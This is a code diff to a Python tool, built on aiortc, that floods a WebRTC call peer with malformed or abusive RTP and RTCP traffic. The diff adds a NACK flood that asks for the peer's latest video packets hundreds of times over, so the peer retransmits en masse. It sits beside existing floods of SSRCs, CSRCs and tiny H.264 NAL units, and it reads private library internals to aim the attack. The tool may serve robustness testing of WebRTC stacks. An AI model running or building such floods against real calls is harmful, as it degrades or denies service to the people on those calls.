@@ -8,6 +8,7 @@ from collections.abc import Iterator
 from dataclasses import dataclass
 
 from aiortc import RTCPeerConnection
+from aiortc.rtcrtpreceiver import StreamStatistics
 from aiortc.rtp import RtpPacket
 
 # A receiver accepts a source only after a few consecutive packets (RFC 3550, A.1).
@@ -17,18 +18,26 @@ PAYLOAD = bytes([0x10, 0x01, 0x00, 0x00]) + bytes(60)
 CSRCS_OF_A_PACKET, CHUNKS_OF_A_PACKET, PACKETS_OF_A_COMPOUND = 15, 31, 4
 
 
+# The entries of a NACK that fits into the MTU, and the packets that each one requests (RFC 4585, 6.2.1).
+ENTRIES_OF_A_NACK, PACKETS_OF_AN_ENTRY = 300, 17
+
+
 # The NAL units of one H.264 packet, of one byte each: supplemental enhancement information.
 UNITS_OF_A_PACKET = 400
 
 
 @dataclass
 class Target:
-    """A call to flood: the payload type of its video, our SSRC of video, one of their SSRCs, and the last packet."""
+    """A call to flood: the payload type of its video, our SSRC of video, their SSRC of video, and the last packet.
+
+    `heard` counts the packets of their video.
+    """
 
     payload_type: int
     own: int
     theirs: int
     last: RtpPacket | None = None
+    heard: StreamStatistics | None = None
 
     def packet(self, ssrc: int, number: int, payload: bytes = PAYLOAD, marker: int = 1) -> RtpPacket:
         return RtpPacket(self.payload_type, marker, (1000 + number) % 2**16, 3000 * number, ssrc, payload)
@@ -78,6 +87,16 @@ def requests(target: Target, count: int) -> Iterator[bytes]:
         yield target.report(struct.pack("!BBHII", 0x80 | 5, 205, 2, target.own, target.theirs))
 
 
+def nacks(target: Target, count: int) -> Iterator[bytes]:
+    """Yields requests for the latest packets of their video, each packet hundreds of times."""
+    for _ in range(count):
+        latest = target.heard.max_seq - PACKETS_OF_AN_ENTRY + 1
+        numbers = [latest - PACKETS_OF_AN_ENTRY * (index % 10) for index in range(ENTRIES_OF_A_NACK)]
+        entries = b"".join(struct.pack("!HH", number % 2**16, 0xFFFF) for number in numbers)
+        head = struct.pack("!BBHII", 0x80 | 1, 205, 2 + ENTRIES_OF_A_NACK, target.own, target.theirs)
+        yield target.report(head, entries)
+
+
 def units(target: Target, count: int) -> Iterator[bytes]:
     """Yields packets of one H.264 frame without end, with many tiny NAL units in each (STAP-A, RFC 6184 5.7.1)."""
     payload = bytes([24]) + struct.pack("!HB", 1, 6) * UNITS_OF_A_PACKET
@@ -103,7 +122,10 @@ def jumps(target: Target, count: int) -> Iterator[bytes]:
 
 # Kinds that go on with the packets of our video instead of it.
 CONTINUATIONS = {"units": units, "jumps": jumps}
-KINDS = {"ssrcs": ssrcs, "csrcs": csrcs, "descriptions": descriptions, "requests": requests, **CONTINUATIONS}
+KINDS = {
+    "ssrcs": ssrcs, "csrcs": csrcs, "descriptions": descriptions, "requests": requests, "nacks": nacks,
+    **CONTINUATIONS,
+}
 
 
 async def flood(connection: RTCPeerConnection, kind: str, count: int) -> None:
@@ -112,15 +134,19 @@ async def flood(connection: RTCPeerConnection, kind: str, count: int) -> None:
     if kind in CONTINUATIONS:
         video.replaceTrack(None)
         await asyncio.sleep(0.1)
-    theirs = re.search(r"a=ssrc:(\d+)", connection.remoteDescription.sdp)  # none if they send nothing
+    # What arrived of each SSRC, for which aiortc has no public API; nothing if they send nothing.
+    receiver = next(receiver for receiver in connection.getReceivers() if receiver.track.kind == "video")
+    streams = receiver._RTCRtpReceiver__remote_streams
+    theirs = max(streams, key=lambda ssrc: streams[ssrc].packets_received, default=0)
     sent = video._RTCRtpSender__rtp_history.values()
     last = max(sent, key=lambda packet: packet.timestamp, default=None)
     offered = re.search(r"m=video \d+ \S+ (\d+)", connection.localDescription.sdp)[1]
     target = Target(
         payload_type=last.payload_type if last else int(offered),
         own=video._ssrc,
-        theirs=int(theirs[1]) if theirs else 0,
+        theirs=theirs,
         last=last,
+        heard=streams.get(theirs),
     )
     for index, packet in enumerate(KINDS[kind](target, count)):
         await video.transport._send_rtp(packet)
